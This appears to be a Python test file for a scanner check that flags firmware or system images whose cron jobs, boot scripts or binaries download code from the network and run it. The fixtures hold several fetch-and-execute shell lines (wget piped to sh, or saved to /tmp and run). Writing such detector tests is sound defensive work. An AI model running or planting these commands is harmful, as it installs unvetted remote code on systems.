"""Fetched code that runs on a schedule, at boot or on demand."""

from building import findings_of, image_of

from assay.checks.backdoors import fetch_and_run
from assay.checks.check import Scope

PULL = b"#!/bin/sh\nwget -O /tmp/job http://updates.vendor.net/job\nsh /tmp/job\n"


def test_a_crontab_that_calls_a_script():
    image = image_of(
        {"/etc/crontabs/root": b"*/5 * * * * /usr/bin/pull -q\n", "/usr/bin/pull": PULL}
    )
    (finding,) = findings_of(fetch_and_run, image)
    assert finding.severity == "high"
    assert "which /etc/crontabs/root runs on a schedule" in finding.says
    assert finding.evidence[-1].excerpt.startswith("*/5")


def test_a_line_of_a_crontab_itself():
    line = b"0 3 * * * wget -qO- http://updates.vendor.net/x | sh\n"
    (finding,) = findings_of(fetch_and_run, image_of({"/var/spool/cron/root": line}))
    assert finding.severity == "high"


def test_at_boot():
    image = image_of({"/etc/init.d/rcS": b"#!/bin/sh\n/usr/bin/pull\n", "/usr/bin/pull": PULL})
    (finding,) = findings_of(fetch_and_run, image)
    assert "run at boot" in finding.says


def test_on_demand_is_tentative():
    (finding,) = findings_of(fetch_and_run, image_of({"/usr/bin/pull": PULL}))
    assert (finding.severity, finding.confidence) == ("medium", "tentative")


def test_text_that_is_no_script_is_left_alone():
    scope = Scope()
    image = image_of({"/usr/share/doc/install.txt": b"Run wget -O - http://h/x | sh to install\n"})
    assert not list(fetch_and_run.run(image, scope))
    assert not scope.examined
